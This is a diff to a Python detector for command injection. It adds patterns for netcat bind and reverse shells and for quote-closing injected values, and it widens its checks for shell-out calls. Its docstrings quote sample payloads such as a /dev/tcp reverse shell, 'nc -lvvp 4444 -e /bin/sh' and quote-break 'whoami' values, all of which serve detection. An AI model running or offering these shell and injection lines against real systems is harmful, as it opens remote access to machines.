@@ -36,7 +36,7 @@ WEAK = frozenset({
     "base64", "openssl", "dir", "type", "del", "copy", "net", "reg", "hostname", "passwd", "uptime",
     "who", "w", "dd", "od", "xxd", "mail", "shutdown", "reboot", "whereis", "which", "lsof", "ss",
     "cp", "mv", "mkdir", "expr", "start", "sc", "tac", "nl", "wc", "sort", "uniq", "rev", "java",
-    "printf", "remove-item", "copy-item", "get-process", "stop-process", "get-item",
+    "printf", "sysinfo", "remove-item", "copy-item", "get-process", "stop-process", "get-item",
     # PowerShell probes: what a scanner runs to see output or a delay (get-help, start-sleep -s 5)
     "get-help", "start-sleep", "get-date", "get-host", "get-command", "write-output", "write-host",
 })
@@ -69,6 +69,15 @@ _VAR_RUN = re.compile(r"""(?:^|(?<=[\s;|&^]))([a-z_]\w*)=\$?\\?(['"])(.{1,200}?)
 """``CMD=$'id';$CMD``: a variable set to a command line, then expanded in command position, which runs it."""
 _DEV_TCP = re.compile(r"/dev/(?:tcp|udp)/[\w.:-]+/\d+")
 """Bash's network redirection (``sh -i >& /dev/tcp/10.0.0.1/4444 0>&1``): a reverse shell, in any position."""
+_NC_SHELL = re.compile(
+    r"(?<![\w.-])(?:nc|ncat|netcat)(?:\.exe)?\s(?:[^\n;|&]{0,60}?\s)?-[a-z]*[ec]\s*['\"]?"
+    r"(?:/[\w/]*/)?(?:(?:ba|z|k|da)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)\b",
+    re.I,
+)
+"""netcat told to hand a shell to whoever connects (``nc -lvvp 4444 -e /bin/sh``, ``ncat -e cmd.exe``): a bind
+or reverse shell, whether it opens the value or follows a separator."""
+_QUOTE_THEN_TOOL = re.compile(r"""^\s*['"]\s*(?:(?:&&|\|\||[;&|])\s*)?""")
+"""A value that closes a quoted argument and goes straight on to a command (``' whoami``, ``" & whoami``)."""
 _PHP_CODE = re.compile(
     r"<\?(?:php\b|=)|\{\$\{|\$\{@|\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES|ENV)\s*\["
     r"|(?<![\w.$>-])(?:phpinfo|php_uname)\s*\(\s*\)",
@@ -78,7 +87,7 @@ _PHP_CODE = re.compile(
 evaluates, the request superglobals (``{$_GET["cmd"]}``), ``phpinfo()``."""
 _EXEC_CALL = re.compile(
     r"(?<![\w.$>-])(?:os\.)?(?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|eval|assert)\s*\(\s*"
-    r"(['\"`])([^'\"`]{1,200})\1",
+    r"(['\"`])([^'\"`]{1,1000})\1",
     re.I,
 )
 """A language's shell-out function called on a command (``exec('whoami')``, ``;system('/usr/bin/id')``);
@@ -203,6 +212,7 @@ def _nested_command(text: str) -> tuple[int, int] | None:
     """A command run by another command or by code: shell-out calls, PHP code, ``/dev/tcp``, ``!``
     escapes, wrappers and ``sh -c``."""
     found = (_DEV_TCP.search(text) if "/dev/" in text else None) or (
+        _NC_SHELL.search(text) if "-" in text and "n" in text else None) or (
         _PHP_CODE.search(text) if "$" in text or "<?" in text or "info(" in text or "uname(" in text else None
     )
     if found:
@@ -213,7 +223,7 @@ def _nested_command(text: str) -> tuple[int, int] | None:
                 return m.start(), m.end()
     if "(" in text:
         for m in _EXEC_CALL.finditer(text):
-            if _command_at(m.group(2) + " ", 0, ";"):
+            if _command_at(m.group(2) + " ", 0, ";") or _shell_out_runs(m):
                 return m.start(), m.end()
     if "!" in text:
         for m in _BANG.finditer(text):
@@ -227,6 +237,19 @@ def _nested_command(text: str) -> tuple[int, int] | None:
             if word and word.group(1).lower() in STRONG | WEAK:
                 return m.start(), min(len(text), word.end())
     return None
+
+
+_SHELL_OUT = re.compile(r"(?:os\.)?(?:system|passthru|shell_exec|popen|proc_open|pcntl_exec)\s*\(", re.I)
+
+
+def _shell_out_runs(call: re.Match[str]) -> bool:
+    """A function whose only job is to run a shell (``system``, ``passthru`` …; not ``eval``/``exec``, which also
+    run code) called on a known tool with any argument: ``system('echo XXXX')`` runs ``echo`` whatever it prints."""
+    if not _SHELL_OUT.match(call.group()):
+        return False
+    word = _WORD.match(call.group(2))
+    arg = call.group(2)
+    return word is not None and word.group(1).lower() in STRONG | WEAK and arg[word.end() : word.end() + 1] in " \t"
 
 
 def _strong_then_separator(text: str) -> bool:
@@ -249,6 +272,41 @@ def _strong_then_separator(text: str) -> bool:
         return True  # glued junk after the separator: whoami;0'0'
     rest = text[after:]
     return _command_at(text, after + len(rest) - len(rest.lstrip()), ";")
+
+
+_INDENTED = re.compile(r"(?: {4}|\t)")
+
+
+def _in_indented_block(text: str, pos: int) -> bool:
+    """``pos`` starts a line of a markdown code block: after a blank line, every line up to it is indented by four
+    spaces or a tab (a snippet in a comment or a ticket). As in a fenced block, its commands are the author's
+    example, so only unambiguous tools count there."""
+    line_start = text.rfind("\n", 0, pos) + 1
+    if line_start == 0 or not _INDENTED.match(text, line_start) or text[line_start:pos].strip():
+        return False
+    end = line_start - 1  # walk back over the block's earlier lines to the blank line that opens it
+    while end > 0:
+        start = text.rfind("\n", 0, end) + 1
+        line = text[start:end]
+        if not line.strip():
+            return start > 0
+        if not _INDENTED.match(line):
+            return False
+        end = start - 1
+    return False
+
+
+def _quote_then_tool(text: str) -> bool:
+    """A closing quote, perhaps a separator, then an unambiguous tool that ends the value or takes shell
+    arguments (``' whoami``, ``" && netstat -an``); a quoted phrase in prose does not start with its closing quote."""
+    q = _QUOTE_THEN_TOOL.match(text) if text[:1] in "'\" \t" else None
+    if q is None:
+        return False
+    m = _WORD.match(text, q.end())
+    if m is None or m.group(1).lower() not in STRONG:
+        return False
+    rest = text[m.end() :]
+    return not rest.strip() or _SHELLISH_ARG.match(rest) is not None or _AFTER_CMD_END.match(rest) is not None
 
 
 def _wrapped(text: str, pos: int) -> bool:
@@ -296,7 +354,7 @@ def is_cmdi(value: str) -> tuple[int, int] | None:
     nested = _nested_command(text)
     if nested:
         return nested
-    if _wrapped(text, 0) or _strong_then_separator(text):
+    if _wrapped(text, 0) or _strong_then_separator(text) or _quote_then_tool(text):
         return 0, min(len(text), 48)
     for m in _SEP.finditer(text):
         sep = m.group(1)
@@ -310,6 +368,7 @@ def is_cmdi(value: str) -> tuple[int, int] | None:
             before = text[m.start() - 1] if m.start() else ""
             whole = m.start() == 0 and close == len(text.rstrip()) - 1
             glued = before != "" and not before.isspace() and before not in "([*_"
+            glued = glued or text.startswith("$(", m.start() - 2)  # $(`id`): a substitution inside a substitution
             if (whole or glued or _SUBST_META.search(inner)) and _command_at(
                 inner + " ", 0, ";", strong_only=not (whole or glued)
             ):
@@ -327,8 +386,9 @@ def is_cmdi(value: str) -> tuple[int, int] | None:
             at += 1  # a subshell: &&(sh)0>…
         if sep != "&" and _wrapped(text, at):
             return m.start(), min(len(text), at + 32)
+        block = "\n" in m.group() and _in_indented_block(text, m.end())
         if _command_at(text, at, sep) and (
-            not _is_snippet(_line_before(text, m.start())) or _command_at(text, at, sep, strong_only=True)
+            not (block or _is_snippet(_line_before(text, m.start()))) or _command_at(text, at, sep, strong_only=True)
         ):
             return m.start(), min(len(text), at + 32)
     return None
